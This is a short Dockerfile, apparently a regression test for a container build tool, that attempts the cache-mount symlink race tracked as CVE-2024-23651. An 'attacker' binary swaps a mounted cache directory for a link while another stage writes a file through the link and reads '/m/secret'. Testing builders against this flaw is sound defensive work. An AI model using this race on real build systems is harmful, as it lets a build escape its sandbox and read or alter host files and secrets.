# class: a part of a cache that changes into a link while it is mounted (CVE-2024-23651)
# says: attempted race
FROM base AS swapping
ARG GUARD
COPY attacker /attacker
RUN --mount=type=cache,id=race,target=/c mkdir -p /c/part && ln -sfn $GUARD /c/other
FROM swapping AS swaps
RUN --mount=type=cache,id=race,target=/c timeout 4 /attacker "$GUARD" swap /c/part /c/other; true
FROM swapping AS reads
RUN --mount=type=cache,id=race,target=/c --mount=type=cache,id=race,source=part,target=/m touch /m/open/by-attacker; cat /m/secret; true
FROM base
COPY --from=swaps /attacker /a
COPY --from=swapping /attacker /b
RUN echo attempted race
